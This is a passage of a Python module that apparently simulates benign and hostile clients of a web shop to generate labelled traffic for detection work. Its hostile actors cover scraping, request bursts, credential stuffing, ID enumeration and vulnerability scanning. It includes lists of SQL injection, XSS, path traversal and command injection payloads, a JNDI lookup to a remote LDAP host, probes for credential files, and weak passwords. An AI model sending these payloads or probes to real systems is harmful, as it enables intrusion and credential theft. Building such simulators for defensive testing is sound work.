"""Simulated actors: what benign and hostile clients of a shop actually do.

Each scenario is a generator function ``scenario(rng, actor, **params)``
yielding the :class:`~smartlayer.sim.TrafficRecord` s of one actor in
non-decreasing ``ts`` order, from ``actor.start`` on.  Benign scenarios run
until they are stopped (the driver in :mod:`~smartlayer.sim.generator`
stops at ``actor.end``); hostile ones have a natural length and place
themselves inside the window with :meth:`Actor.pick_start`.  All randomness
comes from the ``rng`` passed in, so an actor is a pure function of its seed.

Realism over separability: no single field gives an attacker away.
Scrapers and credential stuffers mostly send browser user agents, the
benign API client sends ``python-requests``, crawlers scan many distinct
paths, staff users visit ``/admin/``, humans hit stale links (404) and type
apostrophes into forms.  The label is the only ground truth.
"""
from __future__ import annotations

import json
import math
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from urllib.parse import quote, urlencode

from . import BENIGN_LABELS, TrafficRecord
from .sitemap import SiteMap

FORM_TYPE = "application/x-www-form-urlencoded"
JSON_TYPE = "application/json"

# ── who they claim to be ──────────────────────────────────────────────────
BROWSER_UAS: tuple[str, ...] = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.4; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.6312.118 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; SM-A546B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
)
API_UAS: tuple[str, ...] = (
    "python-requests/2.31.0", "python-httpx/0.27.0", "okhttp/4.12.0", "Go-http-client/2.0",
    "axios/1.6.8", "acme-inventory-sync/3.2 (+https://acme.example/bot)",
)
CRAWLER_UAS: tuple[str, ...] = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/124.0.6367.118 Safari/537.36",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
)
SCRAPER_TOOL_UAS: tuple[str, ...] = (
    "Scrapy/2.11.1 (+https://scrapy.org)", "python-requests/2.31.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/124.0.0.0 Safari/537.36",
)
SCANNER_UAS: dict[str, tuple[str, ...]] = {
    "nikto": ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000123)",),
    "sqlmap": ("sqlmap/1.8.4#stable (https://sqlmap.org)",),
    "nuclei": ("Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",),
    "bare": ("", "", "curl/8.5.0", "Go-http-client/1.1", "zgrab/0.x"),
    "stealth": BROWSER_UAS,
}

# ── what attackers send ───────────────────────────────────────────────────
PROBE_PATHS: tuple[str, ...] = (
    "/.env", "/.env.bak", "/.env.production", "/.git/config", "/.git/HEAD", "/.svn/entries",
    "/wp-admin/", "/wp-login.php", "/wp-content/plugins/", "/xmlrpc.php", "/phpmyadmin/", "/pma/",
    "/admin", "/admin/", "/admin/login/", "/administrator/", "/config.php", "/config.json",
    "/backup.zip", "/backup.sql", "/db.sql", "/server-status", "/.aws/credentials", "/.DS_Store",
    "/api/token/", "/actuator/env", "/console/", "/.htaccess", "/web.config", "/composer.json",
    "/docker-compose.yml", "/info.php", "/phpinfo.php", "/shell.php", "/cgi-bin/test.cgi",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/_profiler/phpinfo", "/debug/default/view",
)
_PHP_WORDS = ("index", "admin", "login", "setup", "install", "upload", "test", "wp-config", "db",
              "cmd", "info", "config", "user", "api", "ajax", "search")
SQLI_PAYLOADS = (
    "' OR 1=1--", "1' OR '1'='1", "1 UNION SELECT NULL,NULL,NULL--", "1' AND SLEEP(5)--",
    "admin'--", "1;DROP TABLE users--", "' UNION SELECT username,password FROM auth_user--",
)
XSS_PAYLOADS = (
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(document.cookie)>", "javascript:alert(1)",
)
TRAVERSAL_PAYLOADS = ("../../etc/passwd", "../../../../etc/passwd", "....//....//etc/passwd", "..\\..\\windows\\win.ini")
OTHER_PAYLOADS = (";cat /etc/passwd", "|id", "$(whoami)", "${jndi:ldap://203.0.113.7:1389/a}", "{{7*7}}")
PAYLOADS: tuple[str, ...] = SQLI_PAYLOADS + XSS_PAYLOADS + TRAVERSAL_PAYLOADS + OTHER_PAYLOADS
_QUERY_TARGETS = (("/search/", "q"), ("/products/", "sort"), ("/category/shoes/", "page"),
                  ("/api/products/", "category"), ("/", "next"), ("/accounts/login/", "next"),
                  ("/blog/", "tag"))

# ── what humans type ──────────────────────────────────────────────────────
SEARCH_TERMS = ("red shoes", "rain jacket", "wool socks", '"trail runner"', "bag", "sale", "linen shirt",
                "hat", "size 42", "gift card", "waterproof", "kids shoes", "men's jacket", "O'Neill")
_MESSAGES = (
    "Hi, I'd like to know when the 'Trail Runner' comes back in size 42.",
    "Order {n} hasn't arrived yet -- could you check?",
    "Do you ship to Norway? Thanks!",
    "The discount code SPRING10 doesn't work at checkout.",
    "Can I return shoes that I've worn once (indoors only)?",
)
_REVIEWS = ("Great fit, true to size.", "Colour is a bit darker than on the photo.",
            "Don't buy -- fell apart after 2 weeks.", "5/5 would buy again!", "It's OK for the price.")
_FIRST = ("anna", "ben", "carla", "david", "emma", "felix", "gina", "hugo", "ines", "jonas", "kim", "lena",
          "marco", "nina", "omar", "paula", "rafael", "sara", "tom", "vera")
_LAST = ("smith", "meyer", "garcia", "rossi", "novak", "kowalski", "jensen", "dubois", "silva", "yilmaz")
_MAIL_DOMAINS = ("mail.example", "example.org", "example.net", "inbox.example")
_LEAKED_PASSWORDS = ("123456", "password1", "qwerty123", "iloveyou", "Summer2023!", "letmein", "dragon",
                     "monkey12", "football", "Passw0rd", "welcome1", "abc123")
# Browsers ask for these on their own; the shop has none.
_BROWSER_404S = ("/apple-touch-icon.png", "/apple-touch-icon-precomposed.png", "/promo-2019/",
                 "/index.html", "/shop/", "/login/", "/blog/feed/")
_EXTERNAL_REFERERS = ("https://www.google.com/", "https://www.google.com/", "https://www.bing.com/",
                      "https://duckduckgo.com/", "https://www.facebook.com/", "https://t.co/", "https://news.example/")

# Relative request volume per hour of day (UTC), weekdays; weekends x0.8.
_HOURLY = (0.25, 0.15, 0.10, 0.08, 0.08, 0.12, 0.25, 0.45, 0.65, 0.75, 0.80, 0.85,
           0.90, 0.85, 0.80, 0.80, 0.85, 0.90, 0.95, 1.00, 1.00, 0.90, 0.65, 0.40)
_WEEKEND = 0.8
_MEAN_ACTIVITY = sum(_HOURLY) / 24 * (5 + 2 * _WEEKEND) / 7


def activity(ts: float) -> float:
    """Relative human activity at ``ts`` in (0, 1]: the site's diurnal rhythm."""
    w = _HOURLY[int(ts % 86400 // 3600)]
    return w * _WEEKEND if (int(ts // 86400) + 3) % 7 >= 5 else w  # 1970-01-01 was a Thursday


def _no_accounts() -> str:
    raise RuntimeError("this actor was built without an account allocator")


def _no_ips(n: int) -> list[str]:
    raise RuntimeError("this actor was built without an address allocator")


@dataclass(slots=True)
class Actor:
    """One simulated client and the world it acts in.

    ``new_account`` and ``more_ips`` are supplied by the generator so that
    user IDs and addresses stay unique across all actors of a run.
    """

    label: str
    client_id: str
    ip: str
    start: float
    end: float
    site: SiteMap
    diurnal: bool = True
    staff: bool = False
    new_account: Callable[[], str] = _no_accounts
    more_ips: Callable[[int], list[str]] = _no_ips

    def pick_start(self, rng: random.Random, span: float) -> float:
        """A start time that lets an activity of ``span`` seconds fit the window."""
        return self.start + rng.uniform(0.0, max(0.0, self.end - self.start - span))

    def request(self, rng: random.Random, ts: float, method: str, path: str, user_agent: str, *,
                query: str = "", body: str = "", content_type: str = "", referer: str = "",
                user_id: str | None = None, login_ok: bool = False, cached: bool = False,
                ip: str | None = None) -> TrafficRecord:
        """One request by this actor, answered by the site: the only place records are built."""
        status, ms, size = self.site.respond(
            rng, method, path, authenticated=user_id is not None, staff=self.staff,
            login_ok=login_ok, cached=cached, csrf="csrfmiddlewaretoken=" in body,
        )
        return TrafficRecord(
            ts=round(ts, 3), ip=ip or self.ip, method=method, path=path, query=query, status=status,
            user_agent=user_agent, response_ms=ms, body=body, content_type=content_type,
            user_id=user_id, referer=referer, bytes_sent=size, label=self.label, client_id=self.client_id,
        )


Scenario = Callable[..., Iterator[TrafficRecord]]


# ── small shared helpers ──────────────────────────────────────────────────
def _token(rng: random.Random) -> str:
    return f"{rng.getrandbits(128):032x}"


def _form(rng: random.Random, fields: dict[str, str], *, csrf: bool = True) -> str:
    """A form-encoded body, with the CSRF token a real form carries."""
    if csrf:
        fields = {"csrfmiddlewaretoken": _token(rng), **fields}
    return urlencode(fields)


def _email(rng: random.Random) -> str:
    sep = rng.choice((".", "_", ""))
    num = str(rng.randint(1, 99)) if rng.random() < 0.4 else ""
    return f"{rng.choice(_FIRST)}{sep}{rng.choice(_LAST)}{num}@{rng.choice(_MAIL_DOMAINS)}"


# characters scanners commonly leave unencoded (HTTP only forces space, '"', '#', '&', '%')
_TOOL_SAFE = "'()<>=*/;:$@!,{}|`."


def _encode_query(rng: random.Random, name: str, value: str) -> str:
    """Percent-encode like a tool would: fully, or only what HTTP forces."""
    if rng.random() < 0.5:
        return urlencode({name: value})
    return f"{name}={quote(value, safe=_TOOL_SAFE)}"


def _session_starts(rng: random.Random, actor: Actor, per_day: float) -> list[float]:
    """Session start times: a Poisson process thinned by :func:`activity`.

    Every actor gets at least one session, so a short window still shows
    ``humans`` distinct visitors.
    """
    duration = actor.end - actor.start
    lam = per_day / 86400.0 / (_MEAN_ACTIVITY if actor.diurnal else 1.0)
    starts: list[float] = []
    t = actor.start
    while True:
        t += rng.expovariate(lam)
        if t >= actor.end:
            break
        if not actor.diurnal or rng.random() < activity(t):
            starts.append(t)
    if not starts:
        for _ in range(50):
            t = actor.start + rng.random() * 0.9 * duration
            if not actor.diurnal or rng.random() < activity(t):
                break
        starts.append(t)
    return starts


# ── benign: humans ────────────────────────────────────────────────────────
class _Visit:
    """One browsing session: the clock, the login state, the referer chain."""

    __slots__ = ("rng", "actor", "ua", "t", "user", "referer", "cold", "think_median", "out")

    def __init__(self, rng: random.Random, actor: Actor, ua: str, t: float, user: str | None,
                 cold: bool, think_median: float) -> None:
        self.rng, self.actor, self.ua, self.t, self.user = rng, actor, ua, t, user
        self.cold, self.think_median = cold, think_median
        r = rng.random()
        self.referer = rng.choice(_EXTERNAL_REFERERS) if r < 0.55 else ""
        self.out: list[TrafficRecord] = []

    def hit(self, path: str, query: str = "", *, method: str = "GET", body: str = "",
            login_ok: bool = False) -> int:
        """Request ``path`` as a browser does: then its assets, then the referer moves on."""
        rng, actor = self.rng, self.actor
        rec = actor.request(rng, self.t, method, path, self.ua, query=query, body=body,
                            content_type=FORM_TYPE if body else "", referer=self.referer,
                            user_id=self.user, login_ok=login_ok)
        self.out.append(rec)
        t = self.t + rec.response_ms / 1000.0
        if method == "GET" and rec.status == 200:
            url = actor.site.url(path, query)
            for asset in actor.site.page_assets(rng, path, cold=self.cold):
                t += rng.uniform(0.01, 0.2)
                self.out.append(actor.request(rng, t, "GET", asset, self.ua, referer=url, user_id=self.user,
                                              cached=not self.cold and rng.random() < 0.3))
            self.cold = False
            self.referer = url
        self.t = t
        return rec.status

    def follow(self) -> None:
        """The browser following a redirect: no reading time."""
        self.t += self.rng.uniform(0.02, 0.1)

    def think(self, scale: float = 1.0) -> None:
        """Reading time: log-normal, seconds to minutes."""
        self.t += min(900.0, max(0.8, scale * self.think_median * self.rng.lognormvariate(0.0, 1.0)))


def _login(v: _Visit, uid: str, next_path: str) -> None:
    site = v.actor.site
    v.hit(site.login_path, "next=" + quote(next_path, safe=""))
    for attempt in range(3):
        v.think(0.5)
        ok = attempt > 0 or v.rng.random() > 0.08  # a typo now and then
        fields = {"username": f"user{uid}@mail.example", "password": _token(v.rng)[:12], "next": next_path}
        if v.hit(site.login_path, method="POST", body=_form(v.rng, fields), login_ok=ok) == 302:
            v.user = uid
            v.follow()
            v.hit(next_path)
            return


def _browse(v: _Visit, uid: str | None, pages: int) -> None:
    """Read ``pages`` pages following links, with the odd form, search and 404."""
    rng, site = v.rng, v.actor.site
    path, query = site.landing_page(rng)
    for _ in range(pages):
        if v.out and rng.random() < 0.015:
            v.hit(rng.choice(_BROWSER_404S))
            v.think(0.3)
        v.hit(path, query)
        v.think()
        r = rng.random()
        if uid and v.user is None and r < 0.06:
            _login(v, uid, "/account/")
            path, query = site.next_page(rng, "/")
        elif r < 0.10:
            path, query = "/search/", urlencode({"q": rng.choice(SEARCH_TERMS)})
        elif r < 0.15 and site.product_id(path) is not None:
            body = _form(rng, {"product_id": str(site.product_id(path)), "quantity": "1"})
            v.hit("/cart/add/", method="POST", body=body)
            v.follow()
            path, query = "/cart/", ""
        elif r < 0.16:
            v.hit("/contact/")
            v.think(3.0)
            msg = rng.choice(_MESSAGES).format(n=rng.randint(10000, 99999))
            v.hit("/contact/", method="POST", body=_form(rng, {"email": _email(rng), "message": msg}))
            v.follow()
            path, query = "/contact/", "sent=1"
        elif v.user is not None and r < 0.19 and site.product_id(path) is not None:
            body = _form(rng, {"rating": str(rng.randint(1, 5)), "text": rng.choice(_REVIEWS)})
            v.hit(path + "review/", method="POST", body=body)
            v.follow()
        elif v.user is not None and r < 0.23:
            _checkout_or_account(v)
            path, query = site.next_page(rng, "/")
        elif v.actor.staff and v.user is not None and r < 0.30:
            _admin_work(v)
            path, query = "/", ""
        else:
            path, query = site.next_page(rng, path)


def _checkout_or_account(v: _Visit) -> None:
    rng = v.rng
    if rng.random() < 0.5:
        v.hit("/checkout/")
        v.think(2.0)
        v.hit("/checkout/", method="POST", body=_form(rng, {"address": "1 Example Street", "payment": "card"}))
        v.follow()
        v.hit("/account/orders/")
    else:
        v.hit(rng.choice(("/account/", "/account/orders/", "/account/settings/")))
    v.think()


def _admin_work(v: _Visit) -> None:
    """A staff member at work in the admin: the benign side of ``/admin``."""
    rng, prefix = v.rng, v.actor.site.admin_prefix
    v.hit(prefix)
    for _ in range(rng.randint(1, 6)):
        v.think(0.5)
        model = rng.choice(v.actor.site.admin_models)
        v.hit(f"{prefix}{model}/")
        if rng.random() < 0.5:
            v.think(0.5)
            change = f"{prefix}{model}/{rng.randint(1, 2000)}/change/"
            v.hit(change)
            if rng.random() < 0.4:
                v.think()
                v.hit(change, method="POST", body=_form(rng, {"status": "shipped", "_save": "Save"}))
                v.follow()


def human(rng: random.Random, actor: Actor, *, sessions_per_day: float | None = None,
          pages_per_session: float | None = None, account_share: float = 0.45,
          staff_share: float = 0.03) -> Iterator[TrafficRecord]:
    """A person with a browser: sessions through the day, reading, clicking, buying.

    Sessions follow the diurnal rhythm; think times are log-normal around a
    per-person median; some people have an account (``user_id`` once logged
    in, kept across sessions by the session cookie), a few of those are staff.
    """
    site = actor.site
    ua = rng.choice(BROWSER_UAS)
    per_day = sessions_per_day or min(12.0, rng.lognormvariate(math.log(1.3), 0.7))
    mean_pages = pages_per_session or rng.uniform(4.0, 12.0)
    think_median = rng.uniform(8.0, 30.0)
    uid = actor.new_account() if rng.random() < account_share else None
    actor.staff = uid is not None and rng.random() < staff_share
    user: str | None = None
    last_end = -math.inf
    for start in _session_starts(rng, actor, per_day):
        start = max(start, last_end + rng.uniform(60.0, 600.0))
        visit = _Visit(rng, actor, ua, start, user, cold=start - last_end > 6 * 3600, think_median=think_median)
        pages = 1 + int(rng.expovariate(1.0 / max(0.1, mean_pages - 1)))
        _browse(visit, uid, pages)
        if visit.user is not None and rng.random() < 0.1:
            visit.hit(site.logout_path, method="POST", body=_form(rng, {}))
            visit.user = None
            visit.follow()
            visit.hit("/")
        user, last_end = visit.user, visit.t
        yield from visit.out


# ── benign: machines ──────────────────────────────────────────────────────
def api_client(rng: random.Random, actor: Actor, *, interval: float | None = None,
               batch: tuple[int, int] = (1, 6)) -> Iterator[TrafficRecord]:
    """A partner integration: a token once a day, then small batches of
    authenticated API calls on a timer, with a library user agent."""
    site = actor.site
    uid = actor.new_account()
    ua = rng.choice(API_UAS)
    every = interval or rng.choice((120.0, 300.0, 600.0, 900.0))
    t = actor.start + rng.uniform(0.0, every)
    token_until = -math.inf
    cursor = 1
    while True:
        out = []
        if t >= token_until:
            body = json.dumps({"client_id": actor.client_id, "client_secret": _token(rng)})
            out.append(actor.request(rng, t, "POST", site.api_token_path, ua, body=body,
                                     content_type=JSON_TYPE, login_ok=True))
            token_until = t + 86400.0
            t += rng.uniform(0.1, 0.5)
        for _ in range(rng.randint(*batch)):
            r = rng.random()
            body, ctype, method, query = "", "", "GET", ""
            if r < 0.35:
                path, query = "/api/orders/", f"status=new&since={int(t - every)}"
            elif r < 0.6:
                path, query = "/api/stock/", f"sku=SKU-{site.popular_product(rng):05d}"
            elif r < 0.8:
                path, query = "/api/products/", f"page={cursor}&page_size=100"
                cursor = cursor % 20 + 1
            elif r < 0.95:
                path = f"/api/orders/{rng.randint(1, site.n_orders + 100)}/"
            else:
                path, method, ctype = "/api/orders/", "POST", JSON_TYPE
                body = json.dumps({"sku": f"SKU-{site.popular_product(rng):05d}", "quantity": rng.randint(1, 5)})
            out.append(actor.request(rng, t, method, path, ua, query=query, body=body,
                                     content_type=ctype, user_id=uid))
            t += rng.uniform(0.05, 0.8)
        yield from out
        t += every * rng.uniform(0.9, 1.1)


def crawler(rng: random.Random, actor: Actor, *, delay: tuple[float, float] = (2.0, 10.0),
            pages: int | None = None, gap_hours: tuple[float, float] = (4.0, 20.0)) -> Iterator[TrafficRecord]:
    """A polite search-engine bot: reads robots.txt and the sitemap, fetches
    only allowed URLs one every ``delay`` seconds, comes back hours later."""
    site = actor.site
    ua = rng.choice(CRAWLER_UAS)
    urls = site.sitemap_urls()
    t = actor.start + rng.uniform(0.0, 1800.0)
    while True:
        yield actor.request(rng, t, "GET", "/robots.txt", ua, cached=rng.random() < 0.5)
        t += rng.uniform(*delay)
        yield actor.request(rng, t, "GET", "/sitemap.xml", ua)
        for path in rng.sample(urls, min(len(urls), pages or rng.randint(150, 900))):
            if not site.allowed_by_robots(path):
                continue
            t += rng.uniform(*delay)
            yield actor.request(rng, t, "HEAD" if rng.random() < 0.03 else "GET", path, ua)
        t += rng.uniform(*gap_hours) * 3600.0


# ── hostile ───────────────────────────────────────────────────────────────
def scraper(rng: random.Random, actor: Actor, *, requests: int | None = None,
            delay: tuple[float, float] | None = None, rotate_ua: bool | None = None) -> Iterator[TrafficRecord]:
    """Copies the catalogue: listing pages, then every product on them, fast.

    Mostly browser user agents (rotated by most), no assets, sometimes a
    spoofed referer, sometimes through the public API instead of HTML.
    """
    site = actor.site
    n = requests or rng.randint(400, 2500)
    lo, hi = delay or rng.choice(((0.15, 0.6), (0.4, 1.5), (1.0, 3.5)))
    rotate = rng.random() < 0.7 if rotate_ua is None else rotate_ua
    pool = list(rng.sample(BROWSER_UAS, 5))
    if rng.random() < 0.4:
        pool.append(rng.choice(SCRAPER_TOOL_UAS))
    ua = rng.choice(pool)
    via_api = rng.random() < 0.25
    spoof_referer = rng.random() < 0.4
    t = actor.pick_start(rng, n * (lo + hi) / 2)
    sent = 0
    if rng.random() < 0.5:
        yield actor.request(rng, t, "GET", "/", ua)
        t += rng.uniform(lo, hi)
    for slug in rng.sample(site.categories, len(site.categories)):
        for page in range(1, site.listing_pages(slug) + 1):
            if via_api:
                path, query = "/api/products/", f"category={slug}&page={page}"
            else:
                path, query = f"/category/{slug}/", (f"page={page}" if page > 1 else "")
            yield actor.request(rng, t, "GET", path, ua, query=query)
            listing_url = site.url(path, query)
            ids = site.listing(slug, page)
            if rng.random() < 0.5:
                rng.shuffle(ids)
            for pid in ids:
                t += rng.uniform(lo, hi)
                if rotate and rng.random() < 0.3:
                    ua = rng.choice(pool)
                product = f"/api/products/{pid}/" if via_api else f"/products/{pid}/"
                yield actor.request(rng, t, "GET", product, ua, referer=listing_url if spoof_referer else "")
                sent += 1
                if sent >= n:
                    return
            t += rng.uniform(lo, hi)


def burst(rng: random.Random, actor: Actor, *, bursts: int | None = None, size: int | None = None,
          idle: tuple[float, float] = (2700.0, 7200.0)) -> Iterator[TrafficRecord]:
    """Looks like a visitor, goes quiet for most of an hour, then hammers one
    endpoint (stock check, add-to-cart, one product) dozens of times in seconds.

    Dozens means 30 to 80 requests in 3 to 12 s: the behaviour contract calls
    fewer than 20 requests in 10 s a normal rate, and never scores a client's
    first 20 requests, so a smaller "burst" is, by definition, ordinary traffic
    (it was 15 to 60 until 2026-11; the smallest were unscorable by design).
    """
    site = actor.site
    ua = rng.choice(BROWSER_UAS) if rng.random() < 0.6 else rng.choice(API_UAS)
    uid = actor.new_account() if rng.random() < 0.5 else None
    pid = site.popular_product(rng)
    targets = [("POST", "/cart/add/", ""), ("GET", f"/api/products/{pid}/", ""), ("GET", f"/products/{pid}/", "")]
    if uid is not None:
        targets.append(("GET", "/api/stock/", f"sku=SKU-{pid:05d}"))
    method, target, tquery = rng.choice(targets)
    n_bursts = bursts or rng.randint(1, 3)
    t = actor.pick_start(rng, 600.0 + n_bursts * (idle[1] + 30.0))
    path, query = site.landing_page(rng)
    for _ in range(rng.randint(3, 12)):
        yield actor.request(rng, t, "GET", path, ua, query=query, user_id=uid)
        t += rng.uniform(2.0, 45.0)
        path, query = site.next_page(rng, path)
    for _ in range(n_bursts):
        t += rng.uniform(*idle)
        k = size or rng.randint(30, 80)
        step = rng.uniform(3.0, 12.0) / k
        for _ in range(k):
            body = _form(rng, {"product_id": str(pid), "quantity": "1"}) if method == "POST" else ""
            yield actor.request(rng, t, method, target, ua, query=tquery, body=body,
                                content_type=FORM_TYPE if body else "", user_id=uid)
            t += step * rng.uniform(0.5, 1.5)


def credential_stuffing(rng: random.Random, actor: Actor, *, attempts: int | None = None,
                        ips: int | None = None, delay: tuple[float, float] | None = None,
                        success_rate: float = 0.01) -> Iterator[TrafficRecord]:
    """Leaked e-mail/password pairs against the login, from one or a few IPs.

    Form variant: failures re-render the form (200), the rare hit redirects
    (302); stuffers that skip the CSRF dance get 403s.  API variant: 401s.
    """
    site = actor.site
    addresses = [actor.ip] + actor.more_ips((ips or rng.choice((1, 1, 2, 3))) - 1)
    api = rng.random() < 0.4
    fetch_form = not api and rng.random() < 0.6
    csrf = fetch_form or rng.random() < 0.7
    n = attempts or rng.randint(150, 1200)
    lo, hi = delay or rng.choice(((0.4, 2.0), (1.5, 6.0), (5.0, 20.0)))
    uas = list(rng.sample(BROWSER_UAS, 3)) if rng.random() < 0.7 else [rng.choice(API_UAS)]
    t = actor.pick_start(rng, n * (lo + hi) / 2 + (n if fetch_form else 0))
    for i in range(n):
        ip = addresses[i % len(addresses)]
        ua = uas[i % len(uas)] if len(uas) == len(addresses) else rng.choice(uas)
        user, password = _email(rng), rng.choice(_LEAKED_PASSWORDS)
        ok = rng.random() < success_rate
        if api:
            body = json.dumps({"username": user, "password": password})
            yield actor.request(rng, t, "POST", site.api_login_path, ua, body=body, content_type=JSON_TYPE,
                                login_ok=ok, ip=ip)
        else:
            if fetch_form:
                yield actor.request(rng, t, "GET", site.login_path, ua, ip=ip)
                t += rng.uniform(0.2, 1.0)
            body = _form(rng, {"username": user, "password": password}, csrf=csrf)
            rec = actor.request(rng, t, "POST", site.login_path, ua, body=body, content_type=FORM_TYPE,
                                referer=site.url(site.login_path), login_ok=ok, ip=ip)
            yield rec
            if rec.status == 302:
                t += rng.uniform(0.1, 0.5)
                victim = str(rng.randint(1, site.n_users))
                yield actor.request(rng, t, "GET", "/account/", ua, user_id=victim, ip=ip)
        t += rng.uniform(lo, hi)


def enumeration(rng: random.Random, actor: Actor, *, count: int | None = None, first_id: int | None = None,
                template: str | None = None, delay: tuple[float, float] | None = None) -> Iterator[TrafficRecord]:
    """Walks consecutive IDs of a per-object API (``/api/users/1/``, ``2``, …)
    looking for objects it should not see — often with a real account."""
    template = template or rng.choice(("/api/users/{}/", "/api/users/{}/", "/api/orders/{}/"))
    uid = actor.new_account() if rng.random() < 0.75 else None
    ua = rng.choice(API_UAS[:4] + BROWSER_UAS[:3] + ("curl/8.5.0",))
    first = first_id if first_id is not None else rng.choice((1, 1, rng.randint(2, 400)))
    n = count or rng.randint(80, 600)
    lo, hi = delay or rng.choice(((0.2, 0.8), (0.8, 3.0)))
    t = actor.pick_start(rng, n * (lo + hi) / 2 + 60.0)
    yield actor.request(rng, t, "GET", "/api/me/" if uid else "/api/products/", ua, user_id=uid)
    t += rng.uniform(5.0, 40.0)
    for i in range(n):
        yield actor.request(rng, t, "GET", template.format(first + i), ua, user_id=uid)
        t += rng.uniform(lo, hi)
        if rng.random() < 0.03:
            yield actor.request(rng, t, "GET", "/api/products/", ua, query=f"page={rng.randint(1, 9)}", user_id=uid)
            t += rng.uniform(lo, hi)


def _probe(rng: random.Random, site: SiteMap) -> tuple[str, str, str, str, str]:
    """One scanner request: ``(method, path, query, body, content_type)``."""
    r = rng.random()
    if r < 0.55:
        return ("HEAD" if rng.random() < 0.1 else "GET"), rng.choice(PROBE_PATHS), "", "", ""
    if r < 0.75:
        return "GET", f"/{rng.choice(_PHP_WORDS)}.php", "", "", ""
    return _payload_query(rng, site) if r < 0.9 else _payload_body(rng, site)


def _payload_query(rng: random.Random, site: SiteMap) -> tuple[str, str, str, str, str]:
    path, name = rng.choice(_QUERY_TARGETS + ((f"/products/{site.popular_product(rng)}/", "ref"),))
    return "GET", path, _encode_query(rng, name, rng.choice(PAYLOADS)), "", ""


def _payload_body(rng: random.Random, site: SiteMap) -> tuple[str, str, str, str, str]:
    payload = rng.choice(PAYLOADS)
    r = rng.random()
    if r < 0.35:
        body = _form(rng, {"username": payload, "password": "x"}, csrf=rng.random() < 0.5)
        return "POST", site.login_path, "", body, FORM_TYPE
    if r < 0.6:
        body = _form(rng, {"email": "a@b.example", "message": payload}, csrf=rng.random() < 0.5)
        return "POST", "/contact/", "", body, FORM_TYPE
    if r < 0.85:
        return "POST", site.api_login_path, "", json.dumps({"username": payload, "password": "x"}), JSON_TYPE
    return "POST", "/api/orders/", "", json.dumps({"sku": payload, "note": payload}), JSON_TYPE


def vuln_scanner(rng: random.Random, actor: Actor, *, requests: int | None = None, tool: str | None = None,
                 delay: tuple[float, float] | None = None) -> Iterator[TrafficRecord]:
    """An automated scanner: sensitive files, ``.php`` probes and injection
    payloads in query strings and bodies.  Tools announce themselves in the
    user agent; the stealthy ones send a browser's, the lazy ones none."""
    site = actor.site
    tool = tool or rng.choice(tuple(SCANNER_UAS))
    uas = SCANNER_UAS[tool]
    ua = rng.choice(uas)
    n = requests or rng.randint(150, 600)
    lo, hi = delay or ((2.0, 15.0) if tool == "stealth" else rng.choice(((0.02, 0.3), (0.1, 1.0))))
    plan = [("GET", "/", "", "", ""), ("GET", "/robots.txt", "", "", "")]
    for i in range(n):
        if i < 3:  # every scan tries the well-known files and both payload channels
            plan.append(("GET", rng.choice(PROBE_PATHS), "", "", ""))
        elif i < 6:
            plan.append(_payload_query(rng, site))
        elif i < 9:
            plan.append(_payload_body(rng, site))
        elif tool == "sqlmap":
            plan.append(_payload_body(rng, site) if rng.random() < 0.4 else _payload_query(rng, site))
        else:
            plan.append(_probe(rng, site))
    head, rest = plan[:2], plan[2:]
    rng.shuffle(rest)
    t = actor.pick_start(rng, n * (lo + hi) / 2)
    for method, path, query, body, ctype in head + rest:
        if tool == "bare":
            ua = rng.choice(uas)
        yield actor.request(rng, t, method, path, ua, query=query, body=body, content_type=ctype)
        t += rng.uniform(lo, hi)


def slow_drip(rng: random.Random, actor: Actor, *, hours: float | None = None,
              interval: tuple[float, float] = (40.0, 90.0)) -> Iterator[TrafficRecord]:
    """About one request a minute for hours: sensitive paths, IDs walked one
    per minute, the odd payload, hidden among ordinary page views — below
